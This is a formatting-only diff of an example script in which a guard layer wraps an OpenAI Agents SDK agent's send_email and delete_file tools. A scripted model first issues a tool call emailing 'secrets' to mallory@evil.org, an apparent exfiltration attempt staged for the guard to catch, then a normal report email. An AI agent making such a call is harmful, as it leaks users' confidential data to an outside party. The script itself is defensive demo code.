@@ -1,6 +1,6 @@
 """OpenAI Agents SDK agent behind agentguard (the SDK's ScriptedModel; no network, no API key).
 
-    python examples/integrations/openai_agents_agent.py
+python examples/integrations/openai_agents_agent.py
 """
 
 from __future__ import annotations
@@ -36,13 +36,19 @@ def main(traces: str | None = None) -> dict:
     ag = AgentsGuard(load_stack(HERE / "agentguard.toml"))
     recorder = TraceRecorder(traces)
     set_trace_processors([ag.trace_processor(recorder)])  # record runs locally (replaces the SDK exporter)
-    model = ScriptedModel([
-        [function_call("send_email", {"to": "mallory@evil.org", "body": "secrets"}, call_id="1")],
-        [function_call("send_email", {"to": "ann@example.com", "body": "report"}, call_id="2")],
-        [assistant_message("Report sent internally.")],
-    ])
-    agent = Agent(name="assistant", instructions="Be careful.", model=model,
-                  tools=ag.guard_tools([send_email, delete_file]))
+    model = ScriptedModel(
+        [
+            [function_call("send_email", {"to": "mallory@evil.org", "body": "secrets"}, call_id="1")],
+            [function_call("send_email", {"to": "ann@example.com", "body": "report"}, call_id="2")],
+            [assistant_message("Report sent internally.")],
+        ]
+    )
+    agent = Agent(
+        name="assistant",
+        instructions="Be careful.",
+        model=model,
+        tools=ag.guard_tools([send_email, delete_file]),
+    )
     result = asyncio.run(Runner.run(agent, "send the report"))
     print("final:", result.final_output)
     for t in recorder.traces:
